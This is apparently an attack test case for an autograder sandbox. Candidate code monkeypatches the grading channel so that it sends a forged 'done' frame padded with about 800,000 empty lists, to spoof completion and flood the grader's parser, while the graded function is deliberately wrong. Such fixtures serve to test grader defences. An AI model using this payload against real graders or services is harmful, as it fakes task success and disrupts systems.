# ---
# attack: 'Answers with almost a million lists without an entry, which are small here and large there.'
# class: forging or flooding wire frames and handles
# sandboxes: [namespaces, off]
# detected: values at once
# ---
# %% before="q1"
import struct

from autograder.candidate.channel import Channel

head = b"\x92\xa4done\xdd" + struct.pack(">I", 800_001) + b"\0" + b"\x91\0" * 800_000
send = Channel.send


def many(self, header, payload, *rest):
    if type(header).__name__ == "Ran":
        return send(self, header, payload, *rest)
    self.sock.settimeout(None)
    self.sock.sendall(struct.pack("<IQ", len(head), 0) + head)


Channel.send = many

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
